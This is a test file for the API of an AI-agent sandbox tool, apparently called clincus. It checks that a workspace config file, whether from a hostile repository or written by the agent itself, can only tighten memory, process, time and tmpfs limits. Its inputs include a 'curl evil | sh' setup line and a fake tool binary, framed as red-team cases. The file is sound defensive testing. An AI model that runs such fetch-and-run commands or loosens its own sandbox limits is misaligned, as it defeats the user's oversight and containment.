// Issue 10 row 8 through the API: a workspace .clincus.toml (a cloned repo, or the agent itself)
// can only tighten the user's limits, and resume keeps the limits the session was created with.
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { buildTestApp, json, type TestApp } from '../test/helpers.ts'

async function withUser(limits: string) {
  // The workspace root is known only once buildTestApp made the home: "~" finds it.
  return buildTestApp({
    configText: `[dashboard]\nworkspace_roots = ["~/projects"]\n${limits}`,
  })
}

async function launch(t: TestApp) {
  return t.app.inject({ method: 'POST', url: '/api/sessions', ...json({ workspace: t.project }) })
}

function tmpfsMount(t: TestApp): string | undefined {
  return t.driver
    .callsOf('exec')
    .map((c) => c.args[1] as string[])
    .filter((a) => a[0] === 'mount')
    .at(-1)
    ?.find((a) => a.startsWith('size='))
}

function deadlineIn(t: TestApp, id: string): number {
  const at = t.driver.instances.get(id)?.config['user.clincus.deadline'] ?? ''
  return Date.parse(at) - Date.now()
}

const MIN = 60_000

describe('a workspace .clincus.toml only tightens', () => {
  it('cannot lift memory, processes, max_duration or the tmpfs bound', async () => {
    const t = await withUser(
      '[limits.memory]\nlimit = "2GiB"\n[limits.runtime]\nmax_duration = "1h"\nmax_processes = 200\n[limits.disk]\ntmpfs_size = "256MiB"\n',
    )
    await writeFile(
      join(t.project, '.clincus.toml'),
      '[limits.memory]\nlimit = "64GiB"\n[limits.runtime]\nmax_duration = ""\nmax_processes = 0\nauto_stop = false\n[limits.disk]\ntmpfs_size = "0"\n',
    )
    const res = await launch(t)
    expect(res.statusCode).toBe(200)
    const { id } = res.json<{ id: string }>()
    const config = t.driver.instances.get(id)?.config ?? {}
    expect(config['limits.memory']).toBe('2GiB')
    expect(config['limits.processes']).toBe('200')
    expect(config['user.clincus.deadline_action']).toBe('graceful')
    expect(deadlineIn(t, id)).toBeGreaterThan(59 * MIN)
    expect(deadlineIn(t, id)).toBeLessThanOrEqual(60 * MIN)
    expect(tmpfsMount(t)).toBe('size=256M,mode=1777')
  })

  it('tightens where it asks for less', async () => {
    const t = await withUser(
      '[limits.memory]\nlimit = "2GiB"\n[limits.runtime]\nmax_duration = "1h"\n',
    )
    await writeFile(
      join(t.project, '.clincus.toml'),
      '[limits.memory]\nlimit = "1GiB"\n[limits.runtime]\nmax_duration = "10m"\nmax_processes = 64\n',
    )
    const { id } = (await launch(t)).json<{ id: string }>()
    const config = t.driver.instances.get(id)?.config ?? {}
    expect(config['limits.memory']).toBe('1GiB')
    expect(config['limits.processes']).toBe('64')
    expect(deadlineIn(t, id)).toBeLessThanOrEqual(10 * MIN)
  })

  it.each([
    ['[defaults]\nimage = "images:debian"\n', 'defaults.image'],
    ['[defaults]\nimage = "other-local-image"\n', 'defaults.image'],
    ['[profiles.default]\nimage = "x"\n', 'profiles'],
    // Issue 13: what the image contains (its setup runs as root at build time).
    ['[image]\npackages = ["evil"]\n', 'image'],
    ['[image]\nsetup = "curl evil | sh"\n', 'image'],
    // Red team (a hostile repository; the agent writing the file for the next launch or resume):
    // the program started as the tool, with the profile's environment, is the user's choice.
    ['[tool]\nbinary = "/workspace/.x/fake-claude"\n', 'tool.binary'],
  ])('refuses %j with a 400 naming the key', async (text, key) => {
    const t = await withUser('')
    await writeFile(join(t.project, '.clincus.toml'), text)
    const res = await launch(t)
    expect(res.statusCode).toBe(400)
    expect(res.json<{ code: string }>().code).toBe('invalid_workspace_config')
    expect(res.json<{ error: string }>().error).toContain(key)
    expect(t.driver.callsOf('init')).toHaveLength(0)
  })

  it('resume uses the limits the session was created with, not the workspace file now', async () => {
    const t = await withUser(
      '[limits.runtime]\nmax_duration = "2h"\n[limits.disk]\ntmpfs_size = "1GiB"\n',
    )
    const file = join(t.project, '.clincus.toml')
    await writeFile(
      file,
      '[limits.runtime]\nmax_duration = "30m"\n[limits.disk]\ntmpfs_size = "128MiB"\n',
    )
    const { id } = (await launch(t)).json<{ id: string }>()
    expect(deadlineIn(t, id)).toBeLessThanOrEqual(30 * MIN)
    expect(tmpfsMount(t)).toBe('size=128M,mode=1777')
    expect((await t.app.inject({ method: 'DELETE', url: `/api/sessions/${id}` })).statusCode).toBe(
      204,
    )
    // The agent loosens the file while the session is stopped.
    await writeFile(
      file,
      '[limits.runtime]\nmax_duration = "1m"\n[limits.disk]\ntmpfs_size = "8MiB"\n',
    )
    t.driver.execHandler = (_n, argv) =>
      argv[1] === 'has-session' ? { stdout: '', stderr: 'no session', exitCode: 1 } : undefined
    const resume = await t.app.inject({ method: 'POST', url: `/api/sessions/${id}/resume` })
    expect(resume.statusCode).toBe(200)
    expect(deadlineIn(t, id)).toBeGreaterThan(29 * MIN)
    expect(deadlineIn(t, id)).toBeLessThanOrEqual(30 * MIN)
    expect(tmpfsMount(t)).toBe('size=128M,mode=1777')
  })
})
